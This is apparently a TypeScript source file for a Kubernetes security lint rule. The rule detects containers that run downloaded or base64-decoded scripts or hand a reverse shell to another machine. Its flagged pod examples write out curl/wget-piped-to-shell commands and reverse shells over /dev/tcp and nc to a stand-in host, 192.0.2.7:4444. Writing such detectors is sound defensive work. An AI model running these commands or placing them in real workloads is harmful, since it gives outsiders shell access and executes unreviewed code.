import { called, commandWords, defineRule, type Example, handlerWords, misdeedIn, pods, text } from '#core';

export default defineRule({
  id: 'workload/no-remote-script',
  summary: 'A container must not run what it downloads or decodes, unseen.',
  severity: 'warning',
  profiles: ['recommended'],
  controls: { mitre: ['T1059.004'] },
  links: ['https://kubernetes.io/docs/concepts/security/cloud-native-security/'],
  docs: {
    why: `
      A script that is piped into a shell is whatever the server says at that moment, to that client. Nobody has reviewed it,
      no scanner of images sees it, and no digest pins it. What stands here in base64, or sends a shell to another machine,
      is how break-ins look.`,
    fix: 'Build the program into the image. If it must be fetched, check its digest before running it.',
    ignore: 'A server of your own inside of the cluster, and a demonstration.',
  },

  on: pods,

  *check(pods) {
    for (const pod of pods) {
      for (const container of pod.containers) {
        for (const { text, at } of [...commandWords(container), ...handlerWords(container)]) {
          const misdeed = misdeedIn(text);
          if (misdeed) yield { at, message: `The ${called(container)} ${misdeed}.` };
        }
      }
    }
  },
});

export const examples = (): readonly Example[] => [
  {
    title: 'Downloaded, decoded, and a shell for somebody',
    file: 'pod.yaml',
    bad: text`
      apiVersion: v1
      kind: Pod
      metadata: {name: web}
      spec:
        containers:
          - name: app
            image: registry.example/app:1.4
            command: [sh, -c, "curl -fsSL https://get.example/install.sh | bash"]
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container app runs what it downloads.
            lifecycle: {postStart: {exec: {command: [sh, -c, 'bash <(wget -qO- https://get.example/agent)']}}}
                                                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container app runs what it downloads.
          - name: job
            image: registry.example/job:2
            command: [sh, -c]
            args:
              - echo aWQK | base64 -d | sh
                ^^^^^^^^^^^^^^^^^^^^^^^^^^ The container job runs what it decodes.
          - name: debug
            image: registry.example/debug:1
            args: [bash, -c, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]
                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container debug hands a shell to another machine.
          - name: back
            image: registry.example/debug:1
            args: [sh, -c, 'nc 192.0.2.7 4444 -e /bin/bash']
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ The container back hands a shell to another machine.
    `,
  },
  {
    title: 'Downloaded and kept, and a port that is waited for',
    file: 'pod.yaml',
    good: text`
      apiVersion: v1
      kind: Pod
      metadata: {name: web}
      spec:
        containers:
          - name: app
            image: registry.example/app:1.4
            command: [sh, -c, "curl -fsSL https://get.example/data.json | jq . > /data/list && exec app"]
          - name: wait
            image: registry.example/wait:2
            command: [bash, -c, "until (echo > /dev/tcp/db/5432); do sleep 1; done; echo 'curl x | sh'"]
          - name: health
            image: registry.example/health:1
            command: [sh, -c, 'ncat -lk -p 8080 -e /scripts/health.sh']
          - name: list
            image: registry.example/list:1
            command: [sh, -c, "curl -fsSL https://get.example/list | sudo sh -c 'cat > /etc/list'"]
    `,
  },
];
